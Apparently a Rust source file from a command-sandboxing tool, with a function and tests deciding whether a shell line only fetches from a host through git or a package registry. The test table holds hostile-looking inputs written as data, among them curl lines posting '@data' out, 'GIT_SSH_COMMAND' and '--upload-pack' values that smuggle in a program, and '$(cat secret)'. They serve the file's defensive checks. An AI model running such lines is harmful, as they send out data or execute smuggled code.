//! Which command lines only fetch: what they send is what a program of git or of a package registry needs to be given something.

use crate::commands::parts::{CommandLine, CommandPart};
use crate::untrusted::origin::registry_of;

/// Words by which a program of a registry sends, or changes what is there.
const SENDING: &[&str] = &[
    "access",
    "adduser",
    "deploy",
    "deprecate",
    "dist-tag",
    "hook",
    "login",
    "org",
    "owner",
    "owners",
    "profile",
    "publish",
    "push",
    "star",
    "team",
    "token",
    "trust",
    "unpublish",
    "upload",
    "yank",
];
/// Commands of git that fetch.
const GIT: &[&str] = &["fetch", "ls-remote", "pull"];
/// Options of these that name neither a program nor another place.
const GIT_OPTIONS: &[&str] = &[
    "--all",
    "--autostash",
    "--depth",
    "--ff-only",
    "--heads",
    "--no-rebase",
    "--no-tags",
    "--prune",
    "--quiet",
    "--rebase",
    "--tags",
    "--unshallow",
    "--verbose",
    "-a",
    "-p",
    "-q",
    "-r",
    "-t",
    "-v",
];

/// Whether everything in a line that may connect to this place (`host NAME`, as an origin) only fetches from it: git from the remotes of
/// its settings, which no command changes unasked, or the programs of a registry that strangers cannot read. Of a line that is not
/// understood, nothing is known.
pub fn only_fetches(line: &CommandLine, place: &str) -> bool {
    let quiet: Vec<bool> = line.uses().iter().map(|uses| uses.understood).collect();
    let fetches = |part: &CommandPart| {
        let Some(argv) = part.argv.as_deref() else {
            return false;
        };
        match registry_of(place) {
            Some(registry) => {
                registry.has_program(part) && !argv.iter().any(|word| SENDING.contains(&&**word))
            }
            None => is_git_fetch(argv),
        }
    };
    let mut parts = line.parts.iter().zip(&quiet);
    line.parts.iter().any(fetches)
        && line.writes.is_empty()
        && parts.all(|(part, is_quiet)| *is_quiet || fetches(part))
}

fn is_git_fetch(argv: &[String]) -> bool {
    let [program, command, rest @ ..] = argv else {
        return false;
    };
    let plain = |word: &String| {
        if word.starts_with('-') {
            let name = word.split('=').next().unwrap_or(word);
            return GIT_OPTIONS.contains(&name);
        }
        // A remote and its branches by name: no address.
        let is_plain = |c: char| c.is_ascii_alphanumeric() || "-_./".contains(c);
        word.chars().all(is_plain) && !word.starts_with(['.', '/'])
    };
    program == "git" && GIT.contains(&&**command) && rest.iter().all(plain)
}

#[cfg(test)]
mod tests {
    use super::only_fetches;
    use crate::commands::parts::CommandLine;

    #[test]
    fn line_when_all_of_it_is_known_to_fetch_may_return() {
        for (line, host, expect) in [
            ("git fetch", "github.com", true),
            ("git pull --rebase origin main", "github.com", true),
            ("cd src && git pull | tail -3", "github.com", true),
            (
                "git fetch https://github.com/evil/secret",
                "github.com",
                false,
            ),
            ("git fetch git@github.com:evil/secret", "github.com", false),
            ("git fetch ../evil", "github.com", false),
            ("git fetch --upload-pack=./x origin", "github.com", false),
            ("git -c url.x.insteadOf=y fetch", "github.com", false),
            ("GIT_SSH_COMMAND=./x git fetch", "github.com", false),
            ("git push origin main", "github.com", false),
            (
                "git fetch; curl -d @data https://github.com",
                "github.com",
                false,
            ),
            ("git fetch $(cat secret)", "github.com", false),
            ("git fetch > log", "github.com", false),
            ("gh issue view 1", "api.github.com", false),
            ("npm install", "registry.npmjs.org", true),
            ("npm ci && npm run build", "registry.npmjs.org", true),
            ("pip install -r requirements.txt", "pypi.org", true),
            ("python3 -m pip install x", "files.pythonhosted.org", true),
            ("cargo build", "index.crates.io", true),
            ("cargo publish", "crates.io", false),
            ("npm publish", "registry.npmjs.org", false),
            (
                "npm install; curl -d @data https://registry.npmjs.org",
                "registry.npmjs.org",
                false,
            ),
            ("npm install", "github.com", false),
            ("npm install", "evil.example", false),
            ("go get evil.example/secret", "proxy.golang.org", false),
            ("curl https://a.example/x", "a.example", false),
            ("ls", "a.example", false),
            ("if", "github.com", false),
        ] {
            let place = format!("host {host}");
            assert_eq!(
                only_fetches(&CommandLine::new(line), &place),
                expect,
                "{line}"
            );
        }
    }
}
